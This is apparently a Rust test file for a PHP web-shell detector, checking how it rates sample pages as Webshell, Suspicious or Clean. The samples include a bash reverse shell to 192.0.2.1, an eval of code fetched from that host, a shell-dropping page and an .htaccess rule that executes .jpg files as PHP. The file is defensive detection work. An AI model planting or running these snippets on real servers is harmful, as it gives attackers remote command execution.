//! One file whole: what it writes, what fails.

use super::*;

fn seen(text: &str) -> Report {
    inspect(&File { path: "page.php", bytes: text.as_bytes(), open: None }, &Limits { time: None, ..Limits::default() })
}

#[test]
fn a_page_that_writes_a_web_shell_is_one() {
    let written = "<?php file_put_contents('b.php', '<?php demo_code(demo_input(\"k\"));');";
    let report = seen(written);
    assert!(report.reasons.contains(&Reason::Drops), "{report:?}");
    assert_eq!(report.verdict, Verdict::Webshell);
    let harmless = seen("<?php file_put_contents('b.php', '<?php $a = 1;');");
    assert_eq!(harmless.verdict, Verdict::Clean, "{harmless:?}");
}

#[test]
fn an_analysis_that_fails_is_told() {
    assert_eq!(stack::on_deep_stack(|| -> Vec<Report> { panic!("on purpose") }).map(|seen| seen.len()), None);
    let report = failed();
    assert_ne!(report.verdict, Verdict::Clean);
    assert!(report.exhausted && report.reasons.contains(&Reason::Failed));
}

#[test]
fn what_a_page_writes_may_be_configuration() {
    let report = seen("<?php file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');");
    assert!(report.reasons.contains(&Reason::Drops), "{report:?}");
    let harmless = seen("<?php file_put_contents('.htaccess', 'Deny from all');");
    assert_eq!(harmless.verdict, Verdict::Clean, "{harmless:?}");
}

#[test]
fn weights() {
    let rows = [
        // Where the visitor says what a file is called, and where the page does.
        ("<?php copy($_FILES['a']['tmp_name'], $_POST['b']);", Verdict::Webshell),
        ("<?php copy($_FILES['a']['tmp_name'], './' . $_FILES['a']['name']);", Verdict::Webshell),
        ("<?php copy($_FILES['a']['tmp_name'], 'uploads/' . $_FILES['a']['name']);", Verdict::Clean),
        // Code of another machine, behind a tag.
        ("<?php eval('?>' . file_get_contents('http://192.0.2.1/a'));", Verdict::Webshell),
        // A header that says what is called.
        ("<?php $f = $_SERVER['HTTP_ACCEPT'] . 'b'; $f($_POST['c']);", Verdict::Webshell),
        ("<?php $f = $_GET['a'] . 'Action'; $f($_POST['c']);", Verdict::Suspicious),
        // Commands of the page's own.
        ("<?php exec('ls -la');", Verdict::Clean),
        ("<?php exec('id; uname -a');", Verdict::Suspicious),
        ("<?php exec('bash -i >& /dev/tcp/192.0.2.1/1 0>&1');", Verdict::Webshell),
        // The file's own name is what is called.
        ("<?php $f = basename(__FILE__, '.php'); $f($_POST['c']);", Verdict::Webshell),
        // Data that is run.
        ("<?php eval(file_get_contents('a.png'));", Verdict::Suspicious),
        ("<?php eval(file_get_contents('a.html'));", Verdict::Clean),
    ];
    for (text, verdict) in rows {
        let report = seen(text);
        assert_eq!(report.verdict, verdict, "{text} {report:?}");
    }
}
